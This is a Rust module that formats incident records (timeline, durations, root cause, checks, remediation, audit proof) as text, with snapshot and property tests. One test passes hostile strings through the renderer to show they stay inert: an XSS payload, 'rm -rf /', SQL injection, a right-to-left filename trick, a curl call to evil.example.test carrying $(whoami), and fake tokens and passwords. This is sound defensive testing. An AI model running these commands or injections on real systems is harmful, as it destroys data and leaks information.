//! The INCIDENT TIMELINE: everything known of one incident, in the order in which somebody at 3 a.m. asks for it.

use std::{cmp::Reverse, fmt::Write};

use super::plain::{NA, duration, line, na};
use crate::{
    domain::{
        time::Timestamp,
        words::{CheckStatus, EventKind, Status},
    },
    tables::rows::{AuditRow, IncidentState, PracticeCheck, RootCause, RunbookStep, TimelineEvent},
};

/// The rows of one incident, in any order.
#[derive(Debug, Clone, Copy, Default)]
pub struct IncidentRecord<'a> {
    pub states: &'a [IncidentState],
    pub events: &'a [TimelineEvent],
    pub causes: &'a [RootCause],
    pub checks: &'a [PracticeCheck],
    pub steps: &'a [RunbookStep],
    pub audit: &'a [AuditRow],
}

/// The whole record as text. Sections without content are left out.
pub fn incident(record: &IncidentRecord) -> String {
    let state = record.states.iter().max_by_key(|state| state.seq);
    let mut events: Vec<&TimelineEvent> = record.events.iter().collect();
    events.sort_by_key(|event| (event.occurred_at, event.seq, event.ordinal));

    let mut text = head(state);
    timeline(&mut text, &events);
    if let Some(state) = state {
        durations(&mut text, state, &events);
        affected(&mut text, state);
    }
    root_cause(&mut text, record.causes);
    checks(&mut text, record.checks);
    steps(&mut text, record.steps);
    lessons(&mut text, state);
    proof(&mut text, record.audit);
    text
}

fn head(state: Option<&IncidentState>) -> String {
    format!(
        "INCIDENT TIMELINE\n================\nID: {}\nReported: {}\nReporter: {}\nType: {}\nStatus: {}\n",
        na(state.map(|state| state.incident_id)),
        na(state.map(|state| state.reported_at)),
        na(state.map(|state| line(state.reporter.as_str()))),
        na(state.map(|state| state.incident_type)),
        na(state.map(|state| state.status)),
    )
}

fn timeline(text: &mut String, events: &[&TimelineEvent]) {
    text.push_str("\nTimeline:\n");
    if events.is_empty() {
        text.push_str("- n/a: no event was recorded\n");
    }
    let mut today = None;
    for event in events {
        let moment = event.occurred_at.utc();
        let day = moment.date_naive();
        if today != Some(day) {
            let _ = writeln!(text, "{day} (UTC)");
            today = Some(day);
        }
        let _ = writeln!(text, "- [{}] {}: {}", moment.format("%H:%M:%S"), event.kind, line(&event.message));
    }
}

fn durations(text: &mut String, state: &IncidentState, events: &[&TimelineEvent]) {
    let between = |earlier: Option<Timestamp>, later: Option<Timestamp>| Some(later?.seconds_since(earlier?));
    let open = open_intervals(state, events);
    text.push_str("\nDurations:\n");
    let mut measured = |what: &str, seconds: Option<f64>, definition: &str| {
        let _ = writeln!(text, "- Time to {what} ({definition}): {}", unless_negative(seconds));
    };
    measured("detect", between(state.impact_started_at, state.detected_at), "detected − impact start");
    measured("acknowledge", between(Some(state.reported_at), state.acknowledged_at), "first explicit ACK − reported");
    measured(
        "mitigate",
        between(state.detected_at, state.mitigated_at),
        "first successful REMEDIATE or VERIFY − detected",
    );
    measured("resolve", open.first().and_then(OpenInterval::seconds), "first resolved − reported");
    if open.len() > 1 {
        let total = open.iter().map(OpenInterval::seconds).sum();
        measured("resolve, in total", total, "sum of the open intervals");
    }
}

/// A clock that runs backwards is no measurement.
fn unless_negative(seconds: Option<f64>) -> String {
    match seconds {
        Some(negative) if negative < 0.0 => format!("{NA} (clock skew: {})", duration(seconds)),
        _ => duration(seconds),
    }
}

/// A stretch in which the incident was open; without an end it still is, or nobody said when it ended.
struct OpenInterval {
    from: Timestamp,
    to: Option<Timestamp>,
}

impl OpenInterval {
    fn seconds(&self) -> Option<f64> {
        Some(self.to?.seconds_since(self.from))
    }
}

/// At least one interval; one more for every REOPEN that follows a CLOSE.
fn open_intervals(state: &IncidentState, events: &[&TimelineEvent]) -> Vec<OpenInterval> {
    let mut intervals = Vec::new();
    let mut from = state.reported_at;
    let mut closed = None;
    for event in events {
        match event.kind {
            EventKind::Close => closed = Some(event.occurred_at),
            EventKind::Reopen if closed.is_some() => {
                intervals.push(OpenInterval { from, to: closed.take() });
                from = event.occurred_at;
            }
            _ => {}
        }
    }
    let to = if state.status == Status::Resolved { closed.or(state.resolved_at) } else { None };
    intervals.push(OpenInterval { from, to });
    intervals
}

fn affected(text: &mut String, state: &IncidentState) {
    let _ = writeln!(text, "\nAffected:\n- {}", line(&state.title));
    let resource = state.resource_kind.as_ref().zip(state.resource_id.as_ref());
    if let Some((kind, id)) = resource.filter(|(kind, _)| kind.as_str() != "workspace") {
        let _ = write!(text, "- {} {}", line(kind.as_str()), line(id.as_str()));
        if let Some(name) = &state.resource_name {
            let _ = write!(text, ": {}", line(name));
        }
        text.push('\n');
    }
    let _ = write!(text, "- workspace {}", line(state.workspace_id.as_str()));
    if let Some(url) = &state.workspace_url {
        let _ = write!(text, ": {}", line(url));
    }
    text.push('\n');
    if let Some(impact) = &state.compliance_impact {
        let _ = writeln!(text, "- compliance: {}", line(impact));
    }
}

/// The latest finding first: it is the one that counts.
fn root_cause(text: &mut String, causes: &[RootCause]) {
    let mut causes: Vec<&RootCause> = causes.iter().collect();
    causes.sort_by_key(|cause| Reverse(cause.seq));
    if !causes.is_empty() {
        text.push_str("\nRoot cause:\n");
    }
    for cause in causes {
        let _ = write!(text, "- {}\n  Confidence: {}", line(&cause.root_cause), cause.confidence);
        if let Some(why) = &cause.confidence_forced_because {
            let _ = write!(text, " ({})", line(why));
        }
        text.push('\n');
        let error: Vec<_> =
            [&cause.error_class, &cause.error_message].into_iter().flatten().map(|part| line(part)).collect();
        let details = [
            ("Error", (!error.is_empty()).then(|| error.join(": "))),
            ("Termination code", cause.termination_code.as_deref().map(|code| line(code).into_owned())),
            ("Evidence", cause.evidence.as_deref().map(|kinds| line(kinds).into_owned())),
            ("Missing evidence", cause.missing_evidence.as_deref().map(|kinds| line(kinds).into_owned())),
        ];
        for (name, value) in details {
            if let Some(value) = value {
                let _ = writeln!(text, "  {name}: {value}");
            }
        }
    }
}

fn checks(text: &mut String, checks: &[PracticeCheck]) {
    if checks.is_empty() {
        return;
    }
    let with = |status: CheckStatus| {
        let mut found: Vec<&PracticeCheck> = checks.iter().filter(|check| check.status == status).collect();
        found.sort_by_key(|check| (check.seq, check.ordinal));
        found
    };
    let (pass, fail, partial) = (with(CheckStatus::Pass), with(CheckStatus::Fail), with(CheckStatus::Partial));
    let _ = writeln!(
        text,
        "\nChecks: {} PASS, {} FAIL, {} PARTIAL (PARTIAL: incomplete data)",
        pass.len(),
        fail.len(),
        partial.len()
    );
    for check in fail.into_iter().chain(partial) {
        let _ = write!(text, "- {}", check.status);
        if let Some(severity) = check.severity {
            let _ = write!(text, " ({severity})");
        }
        let finding = na(check.finding.as_deref().map(line));
        let _ = writeln!(text, " {} / {}: {finding}", line(check.category.as_str()), line(check.name.as_str()));
    }
}

fn steps(text: &mut String, steps: &[RunbookStep]) {
    let mut steps: Vec<&RunbookStep> = steps.iter().collect();
    steps.sort_by_key(|step| (step.seq, step.ordinal));
    if !steps.is_empty() {
        text.push_str("\nRemediation steps:\n");
    }
    for (number, step) in (1..).zip(steps) {
        let _ = write!(text, "{number}. {} ({}): ", line(&step.title), step.kind.as_str());
        let _ = match (step.applied, step.result) {
            (true, result) => writeln!(text, "applied, result {}", na(result)),
            (false, Some(result)) => writeln!(text, "not applied, result {result}"),
            (false, None) => writeln!(text, "not applied"),
        };
    }
}

fn lessons(text: &mut String, state: Option<&IncidentState>) {
    let Some(json) = state.and_then(|state| state.lessons_learned.as_deref()) else {
        return;
    };
    let lessons: Vec<String> = serde_json::from_str(json).unwrap_or_else(|_| vec![json.to_owned()]);
    if !lessons.is_empty() {
        text.push_str("\nLessons learned:\n");
    }
    for lesson in lessons {
        let _ = writeln!(text, "- {}", line(&lesson));
    }
}

fn proof(text: &mut String, audit: &[AuditRow]) {
    let mut audit: Vec<&AuditRow> = audit.iter().collect();
    audit.sort_by_key(|row| row.seq);
    if !audit.is_empty() {
        text.push_str("\nProof (rows of audit_log):\n");
    }
    for row in audit {
        let _ = writeln!(text, "- seq {} entry_hash {}", row.seq, line(&row.entry_hash));
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::{Value, json};

    use super::*;
    use crate::render::example::{
        DAILY_ETL, HOSTILE, NO_RUN_OUTPUT, VALIDATION, assert_safe, hostile_text, recorded, report,
    };

    fn rendered(json: &str) -> String {
        incident(&recorded(report(json)).record())
    }

    fn with(change: impl FnOnce(&mut Value)) -> String {
        let mut document: Value = serde_json::from_str(DAILY_ETL).unwrap();
        change(&mut document);
        rendered(&document.to_string())
    }

    #[test]
    fn a_resolved_incident_tells_its_whole_story() {
        insta::assert_snapshot!(rendered(DAILY_ETL), @r#"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-11T12:21:00Z
        Reporter: oncall-data@example.test
        Type: job-failure
        Status: resolved

        Timeline:
        2026-02-11 (UTC)
        - [12:21:04] DISCOVER: Found 3 jobs, 1 with failed run
        - [12:21:19] FETCH: Retrieved run output; error: "NullPointerException"
        - [12:23:47] ANALYZE: Read notebook code; identified line 42 as root cause
        - [12:26:02] RCA: Timeout + no retries + unparsed JSON input -> HIGH confidence
        - [12:29:30] REMEDIATE: Applied max_retries=3, timeout=3600 to task transform
        - [12:35:12] VERIFY: Re-ran job; SUCCESS
        - [12:36:00] CLOSE: Incident resolved

        Durations:
        - Time to detect (detected − impact start): 14m 29s
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): 9m 50s
        - Time to resolve (first resolved − reported): 15m

        Affected:
        - daily-etl failed: transient timeout, no retry policy
        - job 360515640572923: daily-etl
        - workspace 7405612783315468: https://adb-7405612783315468.8.azuredatabricks.net
        - compliance: Reliability category moved from FAIL to PASS

        Root cause:
        - Job retry policies not configured (max_retries=0)
          Confidence: HIGH
          Error: java.lang.NullPointerException: Cannot invoke "String.length()" because "payload" is null
          Termination code: RUN_EXECUTION_ERROR
          Evidence: run_output, notebook_source

        Checks: 3 PASS, 1 FAIL, 0 PARTIAL (PARTIAL: incomplete data)
        - FAIL (MEDIUM) Reliability / Job retry policy: No job retry policies

        Remediation steps:
        1. Fix Job Retry Policies - daily-etl (job_settings): applied, result SUCCESS

        Lessons learned:
        - Every scheduled job needs a retry policy
        - Reject rows whose payload is null before transform

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        "#);
    }

    #[test]
    fn an_unknown_cause_says_what_is_missing() {
        insta::assert_snapshot!(rendered(NO_RUN_OUTPUT), @"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-18T07:00:00Z
        Reporter: agent:databricks_mcp_agent
        Type: job-failure
        Status: investigating

        Timeline:
        2026-02-18 (UTC)
        - [07:00:09] FETCH: Cannot retrieve run output for run_id=236083407514246: PERMISSION_DENIED

        Durations:
        - Time to detect (detected − impact start): n/a
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): n/a
        - Time to resolve (first resolved − reported): n/a

        Affected:
        - marts-refresh failed, run output cannot be read
        - job 99887766554433: marts-refresh
        - workspace 7405612783315468

        Root cause:
        - unknown
          Confidence: LOW
          Missing evidence: run_output, notebook_source

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        ");
    }

    #[test]
    fn a_validation_lists_failed_and_incomplete_checks() {
        insta::assert_snapshot!(rendered(VALIDATION), @"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-19T06:00:00Z
        Reporter: schedule:weekly-validation
        Type: security-finding
        Status: investigating

        Timeline:
        2026-02-19 (UTC)
        - [06:00:05] DISCOVER: 12 jobs, 3 warehouses, 0 catalogs

        Durations:
        - Time to detect (detected − impact start): n/a
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): n/a
        - Time to resolve (first resolved − reported): n/a

        Affected:
        - Best-practice validation of the workspace
        - workspace 7405612783315468

        Checks: 1 PASS, 2 FAIL, 5 PARTIAL (PARTIAL: incomplete data)
        - FAIL (HIGH) Security / Unity Catalog enabled: No metastore attached
        - FAIL (HIGH) Security / Encryption at rest with customer keys: No encryption configured for the root bucket
        - PARTIAL Reliability / Autoscaling: list_clusters failed: timeout
        - PARTIAL Reliability / Job retry policy: get_job is not available
        - PARTIAL Performance / Photon: No warehouse details
        - PARTIAL Operational Excellence / Monitoring: No access to system tables
        - PARTIAL Unity Catalog / Lineage: No access

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        ");
    }

    #[test]
    fn hostile_names_are_shown_and_do_nothing() {
        let text = rendered(HOSTILE);
        assert_safe(&text);
        insta::assert_snapshot!(text, @r"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-20T10:00:00Z
        Reporter: oncall@example.test
        Type: job-failure
        Status: investigating

        Timeline:
        2026-02-20 (UTC)
        - [10:00:03] FETCH: 401 for Authorization: Bearer dapi0123456789abcdef0123456789abcdef-2 while calling https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnopqrstuvwx
        - [10:00:09] ANALYZE: spark.hadoop.fs.azure.account.key.acct.dfs.core.windows.net=Zm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYg==; jdbc:postgresql://db.example.test/x?user=svc&password=hunter2hunter2

        Durations:
        - Time to detect (detected − impact start): n/a
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): n/a
        - Time to resolve (first resolved − reported): n/a

        Affected:
        - </script><img src=x onerror=alert(1)> | job | `rm -rf /` <!channel> \u{202e}gnp.exe
        - job 1: x'; curl http://evil.example.test/$(whoami) #\n; DROP TABLE audit_log; --
        - workspace 7405612783315468

        Root cause:
        - Expired token in the job's secret scope
          Confidence: MEDIUM
          Evidence: run_output

        Remediation steps:
        1. Raise timeout (job_settings): not applied

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        ");
    }

    #[test]
    fn an_incident_of_which_nothing_is_known_is_all_na() {
        insta::assert_snapshot!(incident(&IncidentRecord::default()), @"
        INCIDENT TIMELINE
        ================
        ID: n/a
        Reported: n/a
        Reporter: n/a
        Type: n/a
        Status: n/a

        Timeline:
        - n/a: no event was recorded
        ");
    }

    #[test]
    fn a_forced_confidence_says_why() {
        let text = with(|document| document["rca"]["missing_evidence"] = json!(["sql"]));
        insta::assert_snapshot!(text.lines().find(|line| line.contains("Confidence")).unwrap(), @"  Confidence: LOW (reported HIGH, but evidence is missing: sql)");
    }

    #[test]
    fn a_clock_that_runs_backwards_is_no_measurement() {
        let text = with(|document| document["incident"]["detected_at"] = json!("2026-02-11T12:04:59Z"));
        insta::assert_snapshot!(text.lines().find(|line| line.contains("Time to detect")).unwrap(), @"- Time to detect (detected − impact start): n/a (clock skew: −12s)");
    }

    #[test]
    fn events_are_told_in_order_under_the_day_they_happened_on() {
        let text = with(|document| {
            document["timeline"] = json!([
                { "at": "2026-02-12T00:00:01+01:00", "kind": "NOTE", "message": "third, still the 11th in UTC" },
                { "at": "2026-02-11T12:21:04Z", "kind": "DISCOVER", "message": "first" },
                { "at": "2026-02-11T12:21:04Z", "kind": "FETCH", "message": "second, same moment" },
                { "at": "2026-02-12T00:00:00Z", "kind": "CLOSE", "message": "fourth" },
                { "at": "2026-02-12T09:00:00Z", "kind": "REOPEN", "message": "fifth" },
                { "at": "2026-02-12T10:00:00Z", "kind": "CLOSE", "message": "sixth" },
            ]);
        });
        let (_, rest) = text.split_once("Timeline:\n").unwrap();
        let (told, _) = rest.split_once("\nAffected").unwrap();
        insta::assert_snapshot!(told, @"
        2026-02-11 (UTC)
        - [12:21:04] DISCOVER: first
        - [12:21:04] FETCH: second, same moment
        - [23:00:01] NOTE: third, still the 11th in UTC
        2026-02-12 (UTC)
        - [00:00:00] CLOSE: fourth
        - [09:00:00] REOPEN: fifth
        - [10:00:00] CLOSE: sixth

        Durations:
        - Time to detect (detected − impact start): 14m 29s
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): n/a
        - Time to resolve (first resolved − reported): 11h 39m
        - Time to resolve, in total (sum of the open intervals): 12h 39m
        ");
    }

    #[test]
    fn a_close_that_was_reopened_does_not_resolve_an_open_incident() {
        let text = with(|document| {
            document["incident"]["status"] = json!("investigating");
            document["timeline"] = json!([
                { "at": "2026-02-11T12:36:00Z", "kind": "CLOSE", "message": "done" },
                { "at": "2026-02-11T13:00:00Z", "kind": "REOPEN", "message": "not done" },
            ]);
        });
        let told: Vec<&str> = text.lines().filter(|line| line.contains("Time to resolve")).collect();
        insta::assert_snapshot!(told.join("\n"), @"
        - Time to resolve (first resolved − reported): 15m
        - Time to resolve, in total (sum of the open intervals): n/a
        ");
    }

    #[test]
    fn ten_thousand_events_are_ten_thousand_lines() {
        let text = with(|document| {
            let event = document["timeline"][0].clone();
            document["timeline"] = Value::Array(vec![event; 10_000]);
        });
        let few = with(|document| document["timeline"] = json!([document["timeline"][0].clone()]));
        assert_eq!(text.lines().count(), few.lines().count() + 9_999);
    }

    proptest! {
        #[test]
        fn nothing_hostile_gets_out_or_adds_a_line(text in hostile_text()) {
            prop_assume!(!text.trim().is_empty());
            let everywhere = |words: &str| with(|document| {
                document["incident"]["title"] = json!(words);
                document["incident"]["reporter"] = json!(words);
                document["workspace"] = json!({ "id": words, "url": words });
                document["resources"] = json!([{ "kind": words, "id": words, "name": words }]);
                document["timeline"][0]["message"] = json!(words);
                document["rca"] = json!({
                    "root_cause": words, "confidence": "HIGH", "evidence": [words], "missing_evidence": [words],
                    "error": { "class": words, "message": words, "termination_code": words },
                });
                document["checks"] = json!([
                    { "category": words, "name": words, "status": "FAIL", "finding": words },
                    { "category": words, "name": words, "status": "PARTIAL" },
                ]);
                document["remediation"][0]["title"] = json!(words);
                document["compliance_impact"] = json!(words);
                document["lessons_learned"] = json!([words]);
            });
            let output = everywhere(&text);
            assert_safe(&output);
            prop_assert_eq!(output.lines().count(), everywhere("harmless").lines().count());
        }
    }
}
